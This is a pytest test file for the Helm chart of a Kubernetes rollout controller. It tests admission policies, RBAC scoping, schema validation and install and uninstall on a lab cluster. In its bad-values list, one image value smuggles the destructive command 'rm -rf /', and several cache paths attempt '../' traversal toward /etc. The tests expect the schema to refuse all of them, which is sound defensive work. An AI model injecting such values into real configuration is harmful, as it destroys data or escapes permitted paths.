    patch = rollout_condition_patch(condition, uid="")
    del patch["metadata"]
    patch["status"].update(status)
    return patch


def _stored_status(installed: Installed) -> dict[str, Any]:
    """The DaemonSet's status as stored, but for what the native DaemonSet controller may change
    meanwhile: the counts it keeps."""
    result = _kubectl(
        installed.kubeconfig, "get", "daemonset", PAUSABLE, "-n", "default", "-o", "json"
    )
    assert result.returncode == 0, result.stderr
    status: dict[str, Any] = json.loads(result.stdout)["status"]
    return {"conditions": status.get("conditions", [])}


def test_controller_identity_may_write_its_rollout_condition(installed: Installed) -> None:
    with _pausable_daemonset(installed):
        answer = asyncio.run(
            _patch_daemonset_as_controller(installed, _condition_patch(), status=True)
        )

        assert answer == (200, "")
        (condition,) = _condition_patch()["status"]["conditions"]
        # The controller running in this install may have written its own since: either is its.
        (stored,) = _stored_status(installed)["conditions"]
        assert (stored["type"], stored["status"]) == (condition["type"], condition["status"])

        removal = rollout_condition_patch(None, uid="")
        del removal["metadata"]
        assert asyncio.run(_patch_daemonset_as_controller(installed, removal, status=True)) == (
            200,
            "",
        )


REFUSED_STATUS_PATCHES = [
    pytest.param(_condition_patch(numberReady=7), 0, id="the-native-controllers-counts"),
    pytest.param(_condition_patch(observedGeneration=9), 0, id="the-observed-generation"),
    pytest.param(_condition_patch(kind="Available"), 0, id="another-condition"),
    pytest.param(_condition_patch(reason="Healthy"), 1, id="a-reason-that-is-no-phase"),
]


@pytest.mark.parametrize(("patch", "rule"), REFUSED_STATUS_PATCHES)
def test_controller_identity_may_change_nothing_else_in_a_daemonsets_status(
    installed: Installed, patch: dict[str, Any], rule: int
) -> None:
    with _pausable_daemonset(installed):
        answer = asyncio.run(
            _patch_daemonset_as_controller(installed, patch, dry_run=True, status=True)
        )

        assert answer == (403, _denied(f'daemonsets.apps "{PAUSABLE}"', rule, CONDITION_POLICY))


EVENTS_POLICY = "edgerollout-controller-events"


def _controller_event(**changes: Any) -> dict[str, Any]:
    """An Event as the controller's recorder writes it (src/edgerollout/kube/recorder.py), with
    `changes` on top (None removes a key)."""
    event: dict[str, Any] = {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"name": "web.0123456789abcdef", "namespace": "default"},
        "involvedObject": {
            "apiVersion": "apps/v1",
            "kind": "DaemonSet",
            "name": "web",
            "namespace": "default",
            "uid": "0b3c1d2e",
        },
        "type": "Warning",
        "reason": "RolloutPaused",
        "message": "paused: 2 nodes failed the new revision",
        "source": {"component": "edgerollout-controller"},
        "reportingComponent": "edgerollout-controller",
        "reportingInstance": "controller-0",
        "firstTimestamp": "2026-11-28T10:00:00Z",
        "lastTimestamp": "2026-11-28T10:00:00Z",
        "count": 1,
    }
    for key, value in changes.items():
        if value is None:
            del event[key]
        else:
            event[key] = value
    return event


REFUSED_EVENTS = [
    pytest.param(
        {
            "involvedObject": {
                "apiVersion": "v1",
                "kind": "Pod",
                "name": "api",
                "namespace": "default",
            }
        },
        id="about-a-pod",
    ),
    pytest.param(
        {"involvedObject": {"apiVersion": "v1", "kind": "Node", "name": "control-plane"}},
        id="about-a-node",
    ),
    pytest.param(
        {
            "involvedObject": {
                "apiVersion": "apps/v1",
                "kind": "Deployment",
                "name": "api",
                "namespace": "default",
            }
        },
        id="about-a-deployment",
    ),
    pytest.param({"source": {"component": "kubelet", "host": "edge-1"}}, id="as-the-kubelet"),
    pytest.param({"reportingComponent": "kube-scheduler"}, id="reported-by-the-scheduler"),
    pytest.param({"message": "m" * 1025}, id="a-message-over-1024-characters"),
]


def test_controller_identity_may_write_its_events_about_daemonsets(installed: Installed) -> None:
    written = _create_as_controller(installed, _controller_event())

    assert (written.returncode, written.stderr) == (0, "")
    assert written.stdout == "event/web.0123456789abcdef\n"


@pytest.mark.parametrize("changes", REFUSED_EVENTS)
def test_controller_identity_may_write_no_other_event(
    installed: Installed, changes: dict[str, Any]
) -> None:
    refused = _create_as_controller(installed, _controller_event(**changes))

    assert (refused.returncode, refused.stdout) == (1, "")
    assert refused.stderr == (
        'Error from server (Forbidden): error when creating "STDIN": '
        + _denied('events "web.0123456789abcdef"', 0, EVENTS_POLICY)
        + "\n"
    )


def test_controller_identity_may_pause_a_daemonset(installed: Installed) -> None:
    with _pausable_daemonset(installed):
        before = _stored_daemonset(installed)

        answer = asyncio.run(_patch_daemonset_as_controller(installed, PAUSE))

        assert answer == (200, "")
        annotations = {**before["metadata"]["annotations"], PAUSED_ANNOTATION: "true"}
        assert _stored_daemonset(installed) == {
            **before,
            "metadata": {**before["metadata"], "annotations": annotations},
        }


def _paused_and(**metadata: Any) -> dict[str, Any]:
    """The pause, and more in the DaemonSet's metadata (a merge patch: None removes a key)."""
    annotations = {**PAUSE["metadata"]["annotations"], **metadata.pop("annotations", {})}
    return {"metadata": {"annotations": annotations, **metadata}}


# Each patch, the paused value the DaemonSet starts with, and the policy's rule (its index) that
# refuses it. Every refused patch pauses as well: the pause is no cover for anything else.
REFUSED_DAEMONSET_PATCHES = [
    pytest.param(
        {"metadata": {"annotations": {PAUSED_ANNOTATION: "false"}}}, None, 3, id="paused-false"
    ),
    pytest.param({"metadata": {"annotations": {PAUSED_ANNOTATION: None}}}, "true", 3, id="resumed"),
    pytest.param(
        _paused_and(annotations={"example.com/owner": "edgerollout"}),
        None,
        2,
        id="another-annotation-added",
    ),
    pytest.param(
        _paused_and(annotations={MAX_UNAVAILABLE_ANNOTATION: "100%"}),
        None,
        2,
        id="an-annotation-changed",
    ),
    pytest.param(
        _paused_and(annotations={UPDATE_STRATEGY_ANNOTATION: None}),
        None,
        2,
        id="an-annotation-removed",
    ),
    pytest.param(_paused_and(labels={"tier": "core"}), None, 1, id="a-label-changed"),
    pytest.param(
        _paused_and(
            ownerReferences=[
                {
                    "apiVersion": "v1",
                    "kind": "ConfigMap",
                    "name": "owner",
                    "uid": "0b3c1d2e-0000-4000-8000-000000000000",
                }
            ]
        ),
        None,
        1,
        id="an-owner-added",
    ),
    pytest.param(_paused_and(generateName="pausable-"), None, 1, id="a-generate-name"),
    pytest.param(
        {
            **PAUSE,
            "spec": {
                "template": {"spec": {"containers": [{"name": "web", "image": "nginx:1.27"}]}}
            },
        },
        None,
        0,
        id="a-new-image",
    ),
    pytest.param(
        {**PAUSE, "spec": {"updateStrategy": {"type": "RollingUpdate"}}},
        None,
        0,
        id="a-native-rolling-update",
    ),
]


@pytest.mark.parametrize(("patch", "paused", "rule"), REFUSED_DAEMONSET_PATCHES)
def test_controller_identity_may_change_nothing_else_on_a_daemonset(
    installed: Installed, patch: dict[str, Any], paused: str | None, rule: int
) -> None:
    with _pausable_daemonset(installed, paused):
        before = _stored_daemonset(installed)

        answer = asyncio.run(_patch_daemonset_as_controller(installed, patch))

        assert answer == (403, _denied(f'daemonsets.apps "{PAUSABLE}"', rule, PAUSE_POLICY))
        assert _stored_daemonset(installed) == before


def test_controller_deployment_runs_two_leader_electing_replicas(installed: Installed) -> None:
    deployment = _get(installed, "deployment", "edgerollout-controller")
    spec = deployment["spec"]
    pod = spec["template"]["spec"]
    (container,) = pod["containers"]
    assert spec["replicas"] == 2
    assert pod["serviceAccountName"] == "edgerollout-controller"
    assert container["args"][0] == "controller"
    assert "--leader-elect" in container["args"]
    assert f"--leader-election-namespace={NAMESPACE}" in container["args"]
    ports = {port["name"]: port["containerPort"] for port in container["ports"]}
    assert ports == {"metrics": 8080, "health": 8081}
    assert "--health-address=0.0.0.0:8081" in container["args"]
    assert "--metrics-address=0.0.0.0:8080" in container["args"]
    assert container["livenessProbe"]["httpGet"] == {
        "path": "/healthz",
        "port": "health",
        "scheme": "HTTP",
    }
    assert container["readinessProbe"]["httpGet"] == {
        "path": "/readyz",
        "port": "health",
        "scheme": "HTTP",
    }
    assert set(container["resources"]) == {"requests", "limits"}
    security = container["securityContext"]
    assert security["readOnlyRootFilesystem"] is True
    assert security["runAsNonRoot"] is True
    assert security["allowPrivilegeEscalation"] is False
    assert security["capabilities"] == {"drop": ["ALL"]}
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}

    budget = _get(installed, "poddisruptionbudget", "edgerollout-controller")
    assert budget["spec"]["minAvailable"] == 1
    assert budget["spec"]["selector"] == spec["selector"]
    service = _get(installed, "service", "edgerollout-controller-metrics")
    assert service["spec"]["selector"] == spec["selector"]["matchLabels"]
    assert [(p["name"], p["targetPort"]) for p in service["spec"]["ports"]] == [
        ("metrics", "metrics")
    ]


def test_agent_daemonset_serves_loopback_on_every_node_with_a_pod_bound_token(
    installed: Installed,
) -> None:
    daemonset = _get(installed, "daemonset", "edgerollout-agent")
    # Upgraded by edgerollout itself: an offline node's agent blocks no other's upgrade.
    annotations = daemonset["metadata"]["annotations"]
    strategy = (UPDATE_STRATEGY_ANNOTATION, MAX_UNAVAILABLE_ANNOTATION)
    assert {key: annotations.get(key) for key in strategy} == {
        UPDATE_STRATEGY_ANNOTATION: "AdvancedRollingUpdate",
        MAX_UNAVAILABLE_ANNOTATION: "10%",
    }
    assert daemonset["spec"]["updateStrategy"] == {"type": "OnDelete"}
    pod = daemonset["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    assert pod["serviceAccountName"] == "edgerollout-agent"
    assert pod["hostNetwork"] is True
    assert pod["tolerations"] == [{"operator": "Exists"}]
    assert container["args"][0] == "agent"
    assert "--listen=127.0.0.1:10267" in container["args"]
    assert "--node-name=$(NODE_NAME)" in container["args"]
    assert container["env"] == [
        {
            "name": "NODE_NAME",
            "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": "spec.nodeName"}},
        }
    ]
    assert container["livenessProbe"]["httpGet"]["host"] == "127.0.0.1"
    assert container["livenessProbe"]["httpGet"]["port"] == 10267
    assert set(container["resources"]) == {"requests", "limits"}
    security = container["securityContext"]
    assert security["runAsNonRoot"] is True
    assert security["readOnlyRootFilesystem"] is True
    assert security["capabilities"] == {"drop": ["ALL"]}

    volumes = {volume["name"]: volume for volume in pod["volumes"]}
    mounts = {mount["name"]: mount["mountPath"] for mount in container["volumeMounts"]}
    cache_dir = next(arg for arg in container["args"] if arg.startswith("--cache-dir="))
    assert volumes["cache"]["hostPath"]["path"] == cache_dir.removeprefix("--cache-dir=")
    assert mounts["cache"] == cache_dir.removeprefix("--cache-dir=")
    # The token comes only from the projected volume, bound to the pod (and so to its node).
    assert pod["automountServiceAccountToken"] is False
    sources = volumes["api-credentials"]["projected"]["sources"]
    assert any("serviceAccountToken" in source for source in sources)
    assert mounts["api-credentials"] == "/var/run/secrets/kubernetes.io/serviceaccount"


# The chart without a lab: lint, values, schema (deploy/base is the chart rendered:
# tests/unit/deploy/test_rendered_manifests.py).


def test_chart_passes_helm_lint_strict() -> None:
    result = helm("lint", "--strict", str(CHART))

    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.splitlines() == [
        f"==> Linting {CHART}",
        "[INFO] Chart.yaml: icon is recommended",
        "",
        "1 chart(s) linted, 0 chart(s) failed",
    ]


def test_chart_and_kustomize_image_follow_the_package_version() -> None:
    chart = yaml.safe_load((CHART / "Chart.yaml").read_text())
    kustomization = yaml.safe_load((BASE / "kustomization.yaml").read_text())

    assert (chart["version"], chart["appVersion"]) == (VERSION, VERSION)
    assert kustomization["images"] == [
        {"name": "edgerollout", "newName": "edgerollout", "newTag": VERSION}
    ]


def _pod_spec(objects: list[dict[str, Any]], kind: str) -> dict[str, Any]:
    (workload,) = (obj for obj in objects if obj["kind"] == kind)
    spec: dict[str, Any] = workload["spec"]["template"]["spec"]
    return spec


def test_values_set_image_namespace_replicas_logs_prepull_and_agent_placement(
    tmp_path: Path,
) -> None:
    values = tmp_path / "values.yaml"
    values.write_text(
        yaml.safe_dump(
            {
                "image": {
                    "repository": "registry.example.com/edgerollout",
                    "tag": "0.2.0",
                    "pullPolicy": "Always",
                },
                "imagePullSecrets": ["registry-credentials"],
                "namespace": {"name": "edge-ops", "create": False},
                "logFormat": "text",
                "controller": {
                    "replicas": 3,
                    "watchNamespace": "shop-17",
                    "prepull": {
                        "toolboxImage": "registry.example.com/busybox:1.37.0-musl",
                        "deadlineSeconds": 120,
                    },
                },
                "agent": {
                    "tolerations": [{"key": "edge", "operator": "Exists", "effect": "NoSchedule"}],
                    "nodeSelector": {"node-role.kubernetes.io/edge": ""},
                },
            }
        )
    )

    objects = _charted("--values", str(values))

    assert [obj["kind"] for obj in objects if obj["kind"] == "Namespace"] == []
    namespaced = {_key(obj)[1:] for obj in objects if "namespace" in obj["metadata"]}
    # Everything in edge-ops, but what the controller may do in the one namespace it watches.
    assert {(kind, name) for kind, ns, name in namespaced if ns != "edge-ops"} == {
        ("Role", "edgerollout-controller"),
        ("RoleBinding", "edgerollout-controller"),
    }
    assert {ns for _, ns, _ in namespaced} == {"edge-ops", "shop-17"}
    subjects = [s for obj in objects for s in obj.get("subjects", [])]
    assert {(s["name"], s["namespace"]) for s in subjects} == {
        ("edgerollout-controller", "edge-ops"),
        ("edgerollout-agent", "edge-ops"),
    }
    # Cluster-wide, the controller reads nodes and nothing else; in shop-17 it has the rules the
    # ClusterRole has without watchNamespace.
    roles = {(obj["kind"], obj["metadata"]["name"]): obj for obj in objects}
    assert roles["ClusterRole", "edgerollout-controller"]["rules"] == [
        {"apiGroups": [""], "resources": ["nodes"], "verbs": ["list", "watch"]}
    ]
    (everywhere,) = (
        obj
        for obj in _charted()
        if (obj["kind"], obj["metadata"]["name"]) == ("ClusterRole", "edgerollout-controller")
    )
    assert everywhere["rules"][-1] == roles["ClusterRole", "edgerollout-controller"]["rules"][0]
    assert roles["Role", "edgerollout-controller"]["rules"] == everywhere["rules"][:-1]
    (policy,) = (
        obj
        for obj in objects
        if (obj["kind"], obj["metadata"]["name"])
        == ("ValidatingAdmissionPolicy", "edgerollout-agent-own-node")
    )
    # The agent's identity in any namespace, edge-ops included: the policy only ever narrows, and
    # kustomize's `namespace:` cannot rewrite a CEL string (proven on the lab in
    # test_agent_identity_namespace.py).
    assert policy["spec"]["matchConditions"][0]["expression"] == (
        "request.userInfo.username.matches('^system:serviceaccount:[a-z0-9.-]+:edgerollout-agent$')"
    )
    (deployment,) = (obj for obj in objects if obj["kind"] == "Deployment")
    assert deployment["spec"]["replicas"] == 3
    controller = _pod_spec(objects, "Deployment")
    agent = _pod_spec(objects, "DaemonSet")
    assert controller["containers"][0]["args"] == [
        "controller",
        "--leader-elect",
        "--leader-election-namespace=edge-ops",
        "--metrics-address=0.0.0.0:8080",
        "--health-address=0.0.0.0:8081",
        "--log-format=text",
        "--log-level=info",
        "--namespace=shop-17",
        "--prepull-toolbox-image=registry.example.com/busybox:1.37.0-musl",
        "--prepull-deadline=120",
    ]
    assert "--log-format=text" in agent["containers"][0]["args"]
    containers = [*controller["containers"], *agent["initContainers"], *agent["containers"]]
    assert {(c["image"], c["imagePullPolicy"]) for c in containers} == {
        ("registry.example.com/edgerollout:0.2.0", "Always")
    }
    assert controller["imagePullSecrets"] == [{"name": "registry-credentials"}]
    assert agent["imagePullSecrets"] == [{"name": "registry-credentials"}]
    assert agent["tolerations"] == [{"key": "edge", "operator": "Exists", "effect": "NoSchedule"}]
    assert agent["nodeSelector"] == {"node-role.kubernetes.io/edge": ""}


DIGEST = "sha256:" + "0123456789abcdef" * 4


def test_an_image_digest_pins_both_workloads_keeping_the_tag_as_a_label() -> None:
    objects = _charted(
        "--set",
        "image.repository=registry.example.com/edgerollout",
        "--set",
        f"image.digest={DIGEST}",
    )

    controller = _pod_spec(objects, "Deployment")
    agent = _pod_spec(objects, "DaemonSet")
    containers = [*controller["containers"], *agent["initContainers"], *agent["containers"]]
    assert {c["image"] for c in containers} == {
        f"registry.example.com/edgerollout:{VERSION}@{DIGEST}"
    }


def test_values_shown_in_the_readme_are_accepted_and_applied(tmp_path: Path) -> None:
    readme = (ROOT / "README.md").read_text()
    example = readme.split("`my-values.yaml`:", 1)[1].split("```yaml\n", 1)[1].split("```", 1)[0]
    values = tmp_path / "my-values.yaml"
    values.write_text(example)

    objects = _charted("--values", str(values))

    controller = _pod_spec(objects, "Deployment")
    agent = _pod_spec(objects, "DaemonSet")
    containers = [*controller["containers"], *agent["initContainers"], *agent["containers"]]
    assert {(c["image"], c.get("imagePullPolicy")) for c in containers} == {
        ("registry.example.com/edgerollout:0.1.0", None)
    }
    assert controller["nodeSelector"] == {"openyurt.io/is-edge-worker": "false"}
    assert agent["nodeSelector"] == {"openyurt.io/is-edge-worker": "true"}
    # The API server through the kubernetes Service: the example leaves apiServer commented out.
    assert all("env" not in c for c in controller["containers"])


def _schema_errors(stderr: str, *, command: str) -> list[str]:
    """The lines naming each bad value, sorted (helm reports them in no fixed order)."""
    heading, chart, *errors = stderr.rstrip().splitlines()
    assert (heading, chart) == (f"Error: {command}{SCHEMA_ERROR}", "edgerollout:")
    return sorted(errors)


REPOSITORY = (
    r"[a-zA-Z0-9]([a-zA-Z0-9.-]*[a-zA-Z0-9])?(:[0-9]+)?(/[a-z0-9]+(([._]|__|-+)[a-z0-9]+)*)*"
)
REPOSITORY_PATTERN = f"^{REPOSITORY}$"
TOOLBOX_PATTERN = f"^{REPOSITORY}(:[A-Za-z0-9_][A-Za-z0-9_.-]{{0,127}})?(@sha256:[a-f0-9]{{64}})?$"
CACHE_DIR_PATTERN = "^/var/lib/[A-Za-z0-9_-][A-Za-z0-9._-]*(/[A-Za-z0-9_-][A-Za-z0-9._-]*)*$"


def _bad(case: str, values: dict[str, Any], *errors: str) -> Any:
    """A case of `BAD_VALUES`: the values given, and the lines naming each bad one."""
    return pytest.param(values, list(errors), id=case)


def _bad_cache_dir(case: str, path: str, *errors: str) -> Any:
    return _bad(f"cache-dir-{case}", {"agent": {"cacheDir": path}}, *errors)


def _not_under_var_lib(path: str) -> str:
    return f"- at '/agent/cacheDir': '{path}' does not match pattern '{CACHE_DIR_PATTERN}'"


# Inside a folder the agent's cache may not share (the schema's `not` rule).
INSIDE_A_SHARED_FOLDER = "- at '/agent/cacheDir': 'not' failed"

BAD_VALUES = [
    _bad(
        "replicas-not-a-number-and-unknown-pull-policy",
        {"controller": {"replicas": "two"}, "image": {"pullPolicy": "Sometimes"}},
        "- at '/controller/replicas': got string, want integer",
        "- at '/image/pullPolicy': value must be one of '', 'Always', 'IfNotPresent', 'Never'",
    ),
    _bad(
        "unknown-log-format",
        {"logFormat": "xml"},
        "- at '/logFormat': value must be one of 'json', 'text'",
    ),
    _bad(
        "misspelt-key",
        {"controller": {"replica": 3}},
        "- at '/controller': additional properties 'replica' not allowed",
    ),
    _bad(
        "namespace-not-a-dns-label",
        {"namespace": {"name": "Edge_Ops"}},
        "- at '/namespace/name': 'Edge_Ops' does not match pattern "
        "'^[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?$'",
    ),
    _bad(
        "no-replicas",
        {"controller": {"replicas": 0}},
        "- at '/controller/replicas': minimum: got 0, want 1",
    ),
    # The cache folder is a hostPath that a root init container chowns: under /var/lib only.
    *(
        _bad_cache_dir(case, path, _not_under_var_lib(path))
        for case, path in [
            ("outside-var-lib", "/etc/edgerollout"),
            ("dot-dot", "/var/lib/../etc"),
            ("dot-dot-deeper", "/var/lib/edgerollout-cache/../../etc"),
            ("relative", "relative/path"),
            ("hidden", "/var/lib/.hidden"),
        ]
    ),
    *(
        _bad_cache_dir(case, path, INSIDE_A_SHARED_FOLDER)
        for case, path in [
            ("the-kubelets", "/var/lib/kubelet"),
            ("the-agent-tokens", "/var/lib/edgerollout"),
            ("inside-containerd", "/var/lib/containerd/io.containerd"),
            ("k3s-and-rke2s", "/var/lib/rancher"),
            ("the-cni-plugins", "/var/lib/cni/networks"),
            ("podman-and-cri-os-images", "/var/lib/containers"),
            ("cri-os", "/var/lib/crio"),
            ("systemds", "/var/lib/systemd"),
        ]
    ),
    _bad(
        "digest-not-sha256",
        {"image": {"digest": "md5:0123"}},
        "- at '/image/digest': 'md5:0123' does not match pattern '^(sha256:[a-f0-9]{64})?$'",
    ),
    _bad(
        "repository-with-a-tag",
        {"image": {"repository": "edgerollout:0.1.0"}},
        "- at '/image/repository': 'edgerollout:0.1.0' does not match pattern "
        f"'{REPOSITORY_PATTERN}'",
    ),
    _bad(
        "toolbox-image-with-a-space",
        {"controller": {"prepull": {"toolboxImage": "busybox; rm -rf /"}}},
        "- at '/controller/prepull/toolboxImage': 'busybox; rm -rf /' does not match pattern "
        f"'{TOOLBOX_PATTERN}'",
    ),
    _bad_cache_dir(
        "dot-dot-out-of-the-agent-tokens",
        "/var/lib/edgerollout/../../etc",
        _not_under_var_lib("/var/lib/edgerollout/../../etc"),
        INSIDE_A_SHARED_FOLDER,
    ),
]


@pytest.mark.parametrize("path", ["/var/lib/edgerollout-cache", "/var/lib/edge/cache-1.0"])
def test_a_cache_folder_under_var_lib_is_mounted_chowned_and_passed_to_the_agent(
    path: str,
) -> None:
    objects = _charted("--set", f"agent.cacheDir={path}")

    agent = _pod_spec(objects, "DaemonSet")
    assert [v["hostPath"]["path"] for v in agent["volumes"] if "hostPath" in v].count(path) == 1
    assert path in agent["initContainers"][0]["command"]
    assert f"--cache-dir={path}" in agent["containers"][0]["args"]


@pytest.mark.parametrize(("values", "errors"), BAD_VALUES)
def test_bad_values_are_refused_by_the_schema_naming_each_bad_value(
    tmp_path: Path, values: dict[str, Any], errors: list[str]
) -> None:
    path = tmp_path / "values.yaml"
    path.write_text(yaml.safe_dump(values))

    result = _helm_template("--values", str(path))

    assert result.returncode == 1
    assert result.stdout == ""
    assert _schema_errors(result.stderr, command="") == sorted(errors)


# The chart against a lab of its own: a refused install, and an uninstall.


@pytest.fixture(scope="module")
def bare_lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    with lab_of_its_own(tmp_path_factory.mktemp("deploy-helm-bare-lab"), nodes=1) as lab:
        yield lab


def _namespaces(lab: Lab) -> list[str]:
    listed = _kubectl(lab.kubeconfig, "get", "namespaces", "-o", "name")
    assert listed.returncode == 0, listed.stderr
    return listed.stdout.split()


def _release_records(lab: Lab) -> list[str]:
    """Helm's records of releases in any state (one Secret per release revision)."""
    listed = _kubectl(lab.kubeconfig, "get", "secrets", "-A", "-l", "owner=helm", "-o", "name")
    assert listed.returncode == 0, listed.stderr
    return listed.stdout.split()


def test_the_status_allow_list_names_every_field_of_the_api_servers_pod_status(
    bare_lab: Lab,
) -> None:
    # The status policies compare every PodStatus field but the conditions (an allow-list,
    # `edgerollout.onlyConditionsChange`): a field a newer API server adds must be listed there.
    served = _kubectl(bare_lab.kubeconfig, "get", "--raw", "/openapi/v3/api/v1")
    assert served.returncode == 0, served.stderr
    schema = json.loads(served.stdout)["components"]["schemas"]["io.k8s.api.core.v1.PodStatus"]
    helpers = (CHART / "templates" / "_helpers.tpl").read_text()
    listed = helpers.split('{{- range list "', 1)[1].split(" }}", 1)[0].replace('"', "").split()

    assert sorted(listed) == sorted(set(schema["properties"]) - {"conditions"})


def test_the_status_allow_list_names_every_field_of_the_api_servers_daemonset_status(
    bare_lab: Lab,
) -> None:
    # The rollout condition's policy compares every DaemonSetStatus field but the conditions
    # (`edgerollout.onlyDaemonSetConditionsChange`), as the pods' status policies do.
    served = _kubectl(bare_lab.kubeconfig, "get", "--raw", "/openapi/v3/apis/apps/v1")
    assert served.returncode == 0, served.stderr
    schemas = json.loads(served.stdout)["components"]["schemas"]
    schema = schemas["io.k8s.api.apps.v1.DaemonSetStatus"]
    helpers = (CHART / "templates" / "_helpers.tpl").read_text()
    defined = helpers.split('define "edgerollout.onlyDaemonSetConditionsChange"', 1)[1]
    listed = defined.split('{{- range list "', 1)[1].split(" }}", 1)[0].replace('"', "").split()

    assert sorted(listed) == sorted(set(schema["properties"]) - {"conditions"})


def test_the_allow_lists_name_every_field_of_the_api_servers_types(bare_lab: Lab) -> None:
    # The pull-Job policy refuses each field files/allow-lists.yaml lists as absent and holds each
    # allowed one to its value; the status and pause policies compare each metadata field an
    # update can change; the rollback policy every DaemonSetSpec field but the template. Together,
    # each type's lists must be every field the API server serves.
    schemas: dict[str, Any] = {}
    for group in ("batch/v1", "apps/v1"):
        served = _kubectl(bare_lab.kubeconfig, "get", "--raw", f"/openapi/v3/apis/{group}")
        assert served.returncode == 0, served.stderr
        schemas |= json.loads(served.stdout)["components"]["schemas"]
    lists = yaml.safe_load((CHART / "files" / "allow-lists.yaml").read_text())
    prefix = {
        "ObjectMeta": "io.k8s.apimachinery.pkg.apis.meta.v1",
        "JobSpec": "io.k8s.api.batch.v1",
        "DaemonSetSpec": "io.k8s.api.apps.v1",
    }

    def properties(kind: str) -> list[str]:
        return sorted(schemas[f"{prefix.get(kind, 'io.k8s.api.core.v1')}.{kind}"]["properties"])

    named = {kind: [f for part in parts.values() for f in part] for kind, parts in lists.items()}

    assert {kind: sorted(fields) for kind, fields in named.items()} == {
        kind: properties(kind) for kind in lists
    }
    assert [kind for kind, fields in named.items() if len(set(fields)) != len(fields)] == []
    assert list(lists) == [
        "ObjectMeta",
        "DaemonSetSpec",
        "JobSpec",
        "PodSpec",
        "PodSecurityContext",
        "Container",
        "SecurityContext",
        "VolumeMount",
    ]


def test_helm_install_with_a_bad_value_is_refused_and_installs_nothing(
    bare_lab: Lab, tmp_path: Path
) -> None:
    namespaces = _namespaces(bare_lab)
    cluster_scoped = {kind: _names(bare_lab, kind) for kind in CLUSTER_SCOPED_KINDS}
    values = tmp_path / "values.yaml"
    values.write_text(yaml.safe_dump({"agent": {"maxUnavailable": "150%"}}))

    result = _helm_install(bare_lab.kubeconfig, "--values", str(values))

    assert result.returncode == 1
    assert _schema_errors(result.stderr, command="INSTALLATION FAILED: ") == [
        "  - at '/agent/maxUnavailable': '150%' does not match pattern '^([1-9][0-9]?|100)%$'",
        "  - at '/agent/maxUnavailable': got string, want integer",
        "- at '/agent/maxUnavailable': 'oneOf' failed, none matched",
    ]
    assert _release_records(bare_lab) == []
    assert _namespaces(bare_lab) == namespaces
    assert f"namespace/{NAMESPACE}" not in namespaces
    # Nothing cluster-wide either: the lab's own objects (its admission policy among them) only.
    assert {kind: _names(bare_lab, kind) for kind in CLUSTER_SCOPED_KINDS} == cluster_scoped
    assert not any("edgerollout-" in name for names in cluster_scoped.values() for name in names)


CLUSTER_SCOPED_KINDS = ("clusterroles", "validatingadmissionpolicies")


def _names(lab: Lab, kind: str) -> list[str]:
    """The names (`kind/name`) of every object of a kind, sorted."""
    return sorted(_kubectl(lab.kubeconfig, "get", kind, "-o", "name").stdout.split())


def _reference(obj: dict[str, Any]) -> str:
    """How `kubectl get -o name` names an object: kind.group/name (no group for the core API)."""
    group, _, _ = obj["apiVersion"].rpartition("/")
    kind = f"{obj['kind'].lower()}.{group}" if group else obj["kind"].lower()
    return f"{kind}/{obj['metadata']['name']}"


def _present(lab: Lab, objects: list[dict[str, Any]]) -> list[str]:
    """Which of these objects the API server holds (`kind/name`)."""
    found = _kubectl(
        lab.kubeconfig,
        "get",
        "-f",
        "-",
        "--ignore-not-found",
        "-o",
        "name",
        stdin=yaml.safe_dump_all(objects),
    )
    assert found.returncode == 0, found.stderr
    return found.stdout.split()


def test_helm_uninstall_removes_everything_it_installed(bare_lab: Lab) -> None:
    objects = _charted()
    installed = _helm_install(bare_lab.kubeconfig)
    assert installed.returncode == 0, installed.stderr
    manifest = _helm_release("get manifest", bare_lab.kubeconfig)
    assert _documents(manifest.stdout) == objects
    assert sorted(_present(bare_lab, objects)) == sorted(map(_reference, objects))

    removed = _helm_release("uninstall", bare_lab.kubeconfig, "--wait", "--timeout=90s")

    assert removed.returncode == 0, removed.stderr
    assert removed.stdout.splitlines()[-1] == f'release "{RELEASE}" uninstalled'
    assert _present(bare_lab, objects) == []
    assert _release_records(bare_lab) == []


def test_helm_install_watching_one_namespace_grants_the_controller_that_namespace_only(
    bare_lab: Lab,
) -> None:
    made = _kubectl(bare_lab.kubeconfig, "create", "namespace", "shop-17")
    assert made.returncode == 0, made.stderr
    installed = _helm_install(bare_lab.kubeconfig, "--set", "controller.watchNamespace=shop-17")
    assert installed.returncode == 0, installed.stderr
    try:
        answers = {}
        for verb, resource, namespace in [
            *((verb, "jobs", ns) for verb in ("create", "delete") for ns in NAMESPACES),
            *(("list", resource, ns) for resource in ("pods", "daemonsets") for ns in NAMESPACES),
            *(("patch", "daemonsets", ns) for ns in NAMESPACES),
            ("delete", "pods", "shop-17"),
            ("delete", "pods", "default"),
            ("list", "nodes", None),
        ]:
            where = ["-n", namespace] if namespace else []
            asked = _kubectl(
                bare_lab.kubeconfig, "auth", "can-i", verb, resource, f"--as={CONTROLLER}", *where
            )
            answers[verb, resource, namespace] = asked.stdout.strip()
        assert answers == {
            ("create", "jobs", "shop-17"): "yes",
            ("create", "jobs", "default"): "no",
            ("create", "jobs", "kube-system"): "no",
            ("delete", "jobs", "shop-17"): "yes",
            ("delete", "jobs", "default"): "no",
            ("delete", "jobs", "kube-system"): "no",
            ("list", "pods", "shop-17"): "yes",
            ("list", "pods", "default"): "no",
            ("list", "pods", "kube-system"): "no",
            ("list", "daemonsets", "shop-17"): "yes",
            ("list", "daemonsets", "default"): "no",
            ("list", "daemonsets", "kube-system"): "no",
            ("patch", "daemonsets", "shop-17"): "yes",
            ("patch", "daemonsets", "default"): "no",
            ("patch", "daemonsets", "kube-system"): "no",
            ("delete", "pods", "shop-17"): "yes",
            ("delete", "pods", "default"): "no",
            ("list", "nodes", None): "yes",
        }
    finally:
        removed = _helm_release("uninstall", bare_lab.kubeconfig, "--wait", "--timeout=90s")
        assert removed.returncode == 0, removed.stderr


NAMESPACES = ("shop-17", "default", "kube-system")


# Roll back on failure (design §13.4.1): with controller.rollback.namespaces, the controller's
# identity may write a DaemonSet's template back there, on a DaemonSet that asks for it, and
# nothing more; elsewhere the pause policy still refuses any spec change.

